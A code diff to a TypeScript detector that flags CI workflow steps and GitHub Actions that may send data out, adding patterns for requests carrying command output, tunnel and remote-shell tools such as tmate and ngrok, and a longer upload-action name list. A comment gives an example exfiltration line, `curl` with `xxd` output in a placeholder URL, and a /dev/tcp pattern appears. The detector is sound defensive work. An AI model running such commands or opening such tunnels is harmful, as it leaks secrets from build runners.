@@ -44,6 +44,13 @@ const UPLOAD_COMMANDS: [RegExp, string][] = [
   ],
   [/\bhuggingface-cli\s+upload\b|\bkaggle\s+datasets\s+(?:create|version)\b|\bzenodo/, 'dataset upload'],
   [/\/dev\/tcp\//, 'raw socket'],
+  // A request whose URL, header or body is a command's output (`curl "https://x/$(xxd -p f)"`).
+  [/\b(?:curl|wget|xh|httpie|http)\b[^\n]*(?:\$\(|`)/, 'request carrying command output'],
+  // A shell or a server reachable from outside the runner: anyone with the link reads the data.
+  [
+    /\b(?:tmate|upterm|ngrok|sshx|bore|localtunnel|lt\s+--port)\b|\bcloudflared\s+tunnel\b|\bcode\s+tunnel\b|\bhttp\.server\b/,
+    'remote access to the runner',
+  ],
   // The job summary is uploaded to GitHub and shown to whoever can read the run.
   [
     /GITHUB_(?:STEP_SUMMARY|OUTPUT)\b.*\b(?:base64|xxd|od|hexdump|uuencode|gzip|zstd|xz|bzip2|tar|zip)\b|\b(?:base64|xxd|od|hexdump|uuencode|gzip|zstd|xz|bzip2|tar|zip)\b.*GITHUB_(?:STEP_SUMMARY|OUTPUT)\b/,
@@ -59,7 +66,7 @@ export function uploadCommand(line: string): string | undefined {
 
 /** Actions that send files elsewhere: by name, since new ones appear every week. */
 const UPLOAD_ACTION =
-  /upload|release|publish|deploy|push|s3|gcs|storage|gist|pages|rsync|sync|commit|cache|scp|sftp|ftp|artifact|transfer|dropbox|drive|slack|discord|telegram|mail/;
+  /upload|release|publish|deploy|push|s3|gcs|storage|gist|pages|rsync|sync|commit|cache|scp|sftp|ftp|artifact|transfer|dropbox|drive|slack|discord|telegram|mail|tmate|upterm|ngrok|tunnel|ssh|remote|debug/;
 const READ_ONLY_ACTION = /download|restore|^actions\/checkout$|^actions\/setup-|^actions\/cache\/restore$/;
 
 /** True when an action (`owner/name[/path]`, lowercase, no version) may upload or publish. */
